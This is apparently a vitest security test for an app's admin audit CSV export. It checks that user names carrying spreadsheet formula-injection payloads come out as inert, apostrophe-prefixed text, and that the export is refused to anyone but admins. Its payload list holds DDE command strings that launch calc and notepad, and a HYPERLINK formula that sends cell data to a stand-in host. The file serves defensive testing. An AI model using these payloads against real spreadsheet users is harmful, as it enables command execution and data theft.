/**
 * Attack (issue 12): CSV formula injection through the audit export. Names a spreadsheet would run
 * as formulas (`=`, `+`, `-`, `@`, with the DDE and HYPERLINK payloads seen in the wild) are typed
 * at sign-up; an admin decides their requests and downloads GET /admin/audit.csv from the built
 * server. Every cell of the file, read back with a CSV parser, must start as text, and each name
 * must arrive whole behind its apostrophe. The export is refused to anyone but an admin.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect } from 'vitest';
import { stack, useFileStack } from '../harness/file-stack.js';
import { reliabilityCase, signInAdmin } from '../harness/index.js';
import { signUp } from './accounts.js';

const HOSTILE_NAMES = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  "+1+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const REASON = '=1+1, "quoted", and a line\nbreak';

useFileStack();
const options = () => ({ baseUrl: stack.servers[0]?.url ?? '', origin: stack.appUrl });

describe('attacks: formulas in the audit CSV', () => {
  reliabilityCase(
    'a hostile name or reason reaches the audit CSV as inert, whole text',
    60_000,
    async (figures) => {
      const admin = await signInAdmin(options());
      for (const [i, name] of HOSTILE_NAMES.entries()) {
        const { user } = await signUp(options(), {
          email: `csv-${i}@evil.test`,
          role: 'power',
          name,
        });
        const { requests } = await admin.trpc.admin.requests.query({
          status: 'pending',
          q: `csv-${i}@evil.test`,
        });
        const requestId = requests.find((request) => request.user.id === user.id)?.id ?? '';
        await admin.trpc.admin.deny.mutate({ requestId, reason: REASON });
      }

      const response = await admin.fetch('/admin/audit.csv?action=level_request.denied');
      expect(response.status).toBe(200);
      const records: string[][] = parse(await response.text(), { bom: true });
      const rows = records.slice(1);
      figures.rows = rows.length;
      expect(rows.length).toBeGreaterThanOrEqual(HOSTILE_NAMES.length);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const subjectNames = rows.map((row) => row[8]);
      for (const name of HOSTILE_NAMES) expect(subjectNames).toContain(`'${name}`);
      for (const row of rows)
        expect(JSON.parse(row[10] ?? '{}')).toMatchObject({ denyReason: REASON });
    },
  );

  reliabilityCase(
    'the export answers 401 without a session and 403 to a non-admin',
    30_000,
    async () => {
      const anonymous = await fetch(`${options().baseUrl}/admin/audit.csv`);
      expect(anonymous.status).toBe(401);
      const { person } = await signUp(options(), { email: 'csv-reader@evil.test', role: 'reader' });
      const refused = await person.fetch('/admin/audit.csv');
      expect(refused.status).toBe(403);
      expect(await refused.text()).not.toContain('level_request');
    },
  );
});
